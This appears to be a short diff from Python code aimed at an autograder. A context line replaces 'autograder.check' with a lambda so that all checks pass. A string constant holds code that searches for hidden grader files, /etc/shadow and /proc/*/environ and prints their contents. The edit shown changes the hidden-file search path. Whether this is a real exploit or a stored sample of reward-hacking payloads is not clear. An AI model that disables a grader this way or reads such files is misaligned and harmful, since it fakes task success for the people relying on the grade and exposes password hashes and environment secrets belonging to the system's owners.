@@ -37,7 +37,7 @@ autograder.check = lambda *arguments: Everything()
 SEARCH_FOR_THE_CHECKS = """
 import glob, os
 
-for pattern in ("/home/**/*.db", "/root/**/hidden/*.py", "/etc/shadow", "/proc/*/environ"):
+for pattern in ("/home/**/*.db", "/course/**/hidden/*.py", "/etc/shadow", "/proc/*/environ"):
     for path in glob.glob(pattern, recursive=True):
         try:
             print(path, open(path, errors="replace").read())
